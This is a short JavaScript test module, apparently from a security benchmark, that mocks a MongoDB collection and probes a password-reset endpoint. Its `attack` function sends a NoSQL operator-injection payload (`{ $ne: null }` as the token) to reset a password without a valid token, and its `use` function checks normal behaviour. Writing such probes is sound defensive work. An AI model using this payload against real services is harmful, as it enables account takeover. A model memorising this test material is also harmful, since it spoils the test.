// Resets a password without a token.

import assert from "node:assert/strict";

const ROWS = [{ token: "f3a9c1", mail: "ada@shop.example" }];

// As much of a collection as the snippets use: equality and `$ne`.
const matches = (value, condition) =>
  condition !== null && typeof condition === "object"
    ? "$ne" in condition && value !== condition.$ne
    : value === condition;

class MongoClient {
  db() {
    const findOne = async (query) =>
      ROWS.find((row) => Object.keys(query).every((key) => matches(row[key], query[key])));
    return { collection: () => ({ findOne }) };
  }
}

export const standIns = { mongodb: { MongoClient } };

const reset = (code, ask, token) =>
  ask(code.default, "/reset", {
    method: "POST",
    headers: { "Content-Type": "application/json" },
    body: JSON.stringify({ token }),
  });

export async function attack(code, { ask }) {
  const answer = await reset(code, ask, { $ne: null });
  return answer.status === 200 ? answer.text : null;
}

export async function use(code, { ask }) {
  assert.equal((await reset(code, ask, "f3a9c1")).text, '{"mail":"ada@shop.example"}');
  assert.equal((await reset(code, ask, "f3a9c2")).status, 404);
}
